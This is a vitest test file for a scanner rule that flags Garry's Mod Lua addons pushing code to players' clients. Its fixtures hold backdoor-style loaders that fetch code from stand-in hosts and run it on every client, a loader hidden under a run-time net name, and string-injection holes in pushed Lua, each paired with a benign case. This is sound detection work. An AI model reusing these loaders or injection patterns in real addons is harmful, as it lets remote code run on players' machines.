// Valid and invalid cases of the `client_code_push` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './client_code_push.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('client_code_push', () => {
  it('remote body broadcast to clients', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://a.invalid/c", function(b) BroadcastLua(b) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it("an admin's announcement pushed to every client", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'net.Receive("Announce_Send", function(len, ply)',
        '  if not ply:IsAdmin() then return end',
        '  BroadcastLua(string.format("chat.AddText(%q)", net.ReadString()))',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('constant notification snippet', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'BroadcastLua([[notification.AddLegacy("Map cleaned up", NOTIFY_CLEANUP, 4)]])',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('an anti-cheat pushing a loader for its own shipped checks', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_ac.lua': [
        'util.AddNetworkString("ac_payload")',
        'local packed = util.Compress(file.Read("ac/client_checks.lua", "LUA") or "")',
        'hook.Add("PlayerInitialSpawn", "ac", function(ply)',
        ' ply:SendLua([[net.Receive("ac_payload",function() RunString(util.Decompress(net.ReadData(net.ReadUInt(16))),"AC") end)]])',
        ' timer.Simple(5, function() net.Start("ac_payload") net.WriteUInt(#packed, 16) net.WriteData(packed, #packed) net.Send(ply) end)',
        'end)',
      ].join('\n'),
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('the same loader, fed from the web', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_ac.lua': [
        'util.AddNetworkString("ac_payload")',
        'hook.Add("PlayerInitialSpawn", "ac", function(ply)',
        ' ply:SendLua([[net.Receive("ac_payload",function() RunString(util.Decompress(net.ReadData(net.ReadUInt(16))),"AC") end)]])',
        ' http.Fetch("https://cdn.invalid/c", function(b) local d = util.Compress(b) net.Start("ac_payload") net.WriteUInt(#d, 16) net.WriteData(d, #d) net.Send(ply) end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a loader pushed with SendLua under a net name made at run time, fed the web\u2019s code', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local N = "kIp" .. util.CRC(GetHostName()):sub(1, 6)',
        'util.AddNetworkString(N)',
        'local stub = [[net.Receive("%s", function() local n = net.ReadUInt(16) CompileString(util.Decompress(net.ReadData(n)), "icon")() end)]]',
        'local function push(code) local d = util.Compress(code) net.Start(N) net.WriteUInt(#d, 16) net.WriteData(d, #d) net.Broadcast() end',
        'hook.Add("PlayerInitialSpawn", "icons", function(ply)',
        ' ply:SendLua(string.format(stub, N))',
        ' http.Fetch("https://icons.invalid/c.lua", function(b) push(b) end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a notification pushed with SendLua around a player\u2019s name', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerInitialSpawn", "hi", function(ply) for _, p in ipairs(player.GetAll()) do p:SendLua(string.format("notification.AddLegacy(%q, NOTIFY_GENERIC, 5)", ply:Nick() .. " joined")) end end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('web content relayed by the server to a client receiver (shipped, not pushed) that runs it', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("ui_update")',
        'hook.Add("PlayerInitialSpawn", "ui", function(ply)',
        '  http.Fetch("https://x.invalid/ui", function(b) net.Start("ui_update") net.WriteString(b) net.Send(ply) end)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua':
        'net.Receive("ui_update", function() RunString(net.ReadString(), "ui") end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('web text relayed to a receiver that shows it, beside a loader of another message (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("motd")',
        'hook.Add("PlayerInitialSpawn", "motd", function(ply)',
        '  http.Fetch("https://x.invalid/motd", function(b)',
        '    net.Start("motd")',
        '    net.WriteString(b)',
        '    net.Send(ply)',
        '  end)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua': [
        'net.Receive("motd", function() chat.AddText(net.ReadString()) end)',
        'net.Receive("ac_check", function() RunString(net.ReadString(), "ac") end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('web content sent to clients as old user messages, whose hook runs it', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Create("skin", 1800, 0, function()',
        '  http.Fetch("https://x.invalid/skin", function(b)',
        '    umsg.Start("skin") umsg.String(b) umsg.End()',
        '  end)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua':
        'usermessage.Hook("skin", function(msg) RunString(msg:ReadString(), "skin") end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('web text sent to clients as old user messages, whose hook shows it (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Create("motd", 1800, 0, function()',
        '  http.Fetch("https://x.invalid/motd", function(b)',
        '    umsg.Start("motd") umsg.String(b) umsg.End()',
        '  end)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua':
        'usermessage.Hook("motd", function(msg) chat.AddText(msg:ReadString()) end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a web reply that names the function every client calls through ULib.clientRPC', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_ads.lua': [
        'timer.Create("ads", 300, 0, function()',
        ' http.Fetch("https://feed.example.invalid/messages.json", function(body)',
        '  local msg = util.JSONToTable(body)',
        '  if msg then ULib.clientRPC(nil, msg.fn or "Ads.Show", unpack(msg.args or {})) end',
        ' end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a web reply shown by a fixed function through ULib.clientRPC', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_ads.lua': [
        'timer.Create("ads", 300, 0, function()',
        ' http.Fetch("https://feed.example.invalid/messages.json", function(body)',
        '  local msg = util.JSONToTable(body)',
        '  if msg then ULib.clientRPC(nil, "Ads.Show", tostring(msg.text)) end',
        ' end)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  // A player's name (theirs to choose) pasted into code every client runs.
  const nameInCode = (build: string) => ({
    'lua/autorun/server/sv_greet.lua': [
      `local function line(name) return ${build} end`,
      'gameevent.Listen("player_changename")',
      'hook.Add("player_changename", "greet", function(ev)',
      ' BroadcastLua(line(ev.newname))',
      'end)',
      'hook.Add("PlayerInitialSpawn", "greet", function(ply) BroadcastLua(line(ply:Nick())) end)',
    ].join('\n'),
  });
  it("a player's text sent back as Lua to that player alone, or to every player", () => {
    const notify = (send: string) =>
      check(rule, {
        'lua/autorun/server/sv_notify.lua': [
          'util.AddNetworkString("notify_me")',
          `net.Receive("notify_me", function(len, ply) ${send}("chat.AddText('" .. net.ReadString() .. "')") end)`,
        ].join('\n'),
      });
    // (netmessage_rce reports what the first gives its sender.)
    expect(notify('ply:SendLua')).toEqual([]);
    expect(worst(notify('BroadcastLua'))).toBe(RANK.high);
  });
  it("a player's name pasted into code every client runs", () => {
    expect(worst(check(rule, nameInCode("'chat.AddText(\"' .. name .. '\")'")))).toBe(RANK.high);
    expect(worst(check(rule, nameInCode('string.format(\'chat.AddText("%s")\', name)')))).toBe(
      RANK.high,
    );
  });
  it("a player's name written into the code with %q (escaped)", () => {
    expect(check(rule, nameInCode('string.format("chat.AddText(%q)", name)'))).toEqual([]);
  });
  /** A client help window whose HTML panel gets `allow` and shows `show`. */
  const helpWindow = (allow: string, show: string): Record<string, string> => ({
    'lua/autorun/client/cl_help.lua': [
      'concommand.Add("help_open", function()',
      ' local frame = vgui.Create("DFrame")',
      ' frame:SetSize(800, 600)',
      ' local page = vgui.Create("DHTML", frame)',
      ' page:Dock(FILL)',
      ` page:SetAllowLua(${allow})`,
      ` ${show}`,
      'end)',
    ].join('\n'),
  });
  it("a web page opened in a panel given the client's Lua", () => {
    const findings = check(
      rule,
      helpWindow('true', 'page:OpenURL("https://guide.example.invalid/")'),
    );
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("the addon's own HTML given Lua, or a web page without it (no finding)", () => {
    expect(
      check(
        rule,
        helpWindow(
          'true',
          'page:SetHTML("<button onclick=\'lua.Run(\\"print(1)\\")\'>x</button>")',
        ),
      ),
    ).toEqual([]);
    expect(
      check(rule, helpWindow('false', 'page:OpenURL("https://guide.example.invalid/")')),
    ).toEqual([]);
  });
  it("a player's text relayed by the server to every client, whose receiver compiles it", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("fx_set")',
        'util.AddNetworkString("fx_sync")',
        'local saved = {}',
        'local function push(id, fx, to)',
        '  net.Start("fx_sync")',
        '  net.WriteString(id)',
        '  net.WriteString(fx.formula)',
        '  if to then net.Send(to) else net.Broadcast() end',
        'end',
        'net.Receive("fx_set", function(_, ply)',
        '  local f = net.ReadString()',
        '  if #f > 200 then return end',
        '  local fx = { formula = f }',
        '  saved[ply:SteamID()] = fx',
        '  push(ply:SteamID(), fx)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua': [
        'local fns = {}',
        'local function build(src) return CompileString("return function(x) return " .. src .. " end", "fx")() end',
        'net.Receive("fx_sync", function() local id = net.ReadString() fns[id] = build(net.ReadString()) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    expect(findings.some((f) => f.techniques?.includes('GB-002'))).toBe(true);
  });
  it("a player's chat relayed to clients that show it, or a superadmin's code run on every client (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("say_fx")',
        'util.AddNetworkString("admin_cl_run")',
        'net.Receive("say_fx", function(_, ply)',
        '  local text = net.ReadString()',
        '  net.Start("say_fx") net.WriteString(text) net.Broadcast()',
        'end)',
        'net.Receive("admin_cl_run", function(_, ply)',
        '  if not ply:IsSuperAdmin() then return end',
        '  local code = net.ReadString()',
        '  net.Start("admin_cl_run") net.WriteString(code) net.Broadcast()',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua': [
        'net.Receive("say_fx", function() chat.AddText(net.ReadString()) end)',
        'net.Receive("admin_cl_run", function() RunString(net.ReadString(), "admin") end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('web text quoted into the pushed Lua with %q, where code stands (benign)', () => {
    // `%q` writes the text as one Lua string literal that gives it back exactly.
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local function notify(ply, msg)',
        '  ply:SendLua(string.format("local s=%q notification.AddLegacy(s,%u,%s) MsgN(s)", "aowl: " .. msg, 1, 5))',
        'end',
        'concommand.Add("lookup", function(ply, cmd, args)',
        '  http.Fetch("https://steamcommunity.com/profiles/" .. args[1] .. "?xml=1", function(body)',
        '    notify(ply, body:match("<steamID>(.-)</steamID>") or "?")',
        '    ply:SendLua(("chat.AddText(%q, \'done\')"):format(body))',
        '  end)',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('web text put where %q does not make it a literal: inside a string, or cut after quoting', () => {
    for (const send of [
      // Inside the format's own quotes, `%q`'s quotes are plain characters: `'` closes them.
      'ply:SendLua(string.format("chat.AddText(\'%q\')", body))',
      // Quoted, then its quotes cut off again.
      'ply:SendLua(string.format("%q", body):sub(2, -2))',
      'ply:SendLua(string.format("local s = %s", body))',
      'ply:SendLua(string.format("--[[ %q ]] print(1)", body))',
      'ply:SendLua(string.format("local s = [==[ %q ]==] print(s)", body))',
      // Still inside the comment a line further down, after a number the format wrote there.
      'ply:SendLua(string.format("/* %d\\n %q */ print(1)", tonumber(body) or 0, body))',
    ]) {
      const findings = check(rule, {
        'lua/autorun/server/sv_x.lua': [
          'hook.Add("PlayerInitialSpawn", "motd", function(ply)',
          '  http.Fetch("https://example.invalid/motd", function(body)',
          `    ${send}`,
          '  end)',
          'end)',
        ].join('\n'),
      });
      expect(worst(findings), send).toBeGreaterThanOrEqual(RANK.high);
    }
  });
});
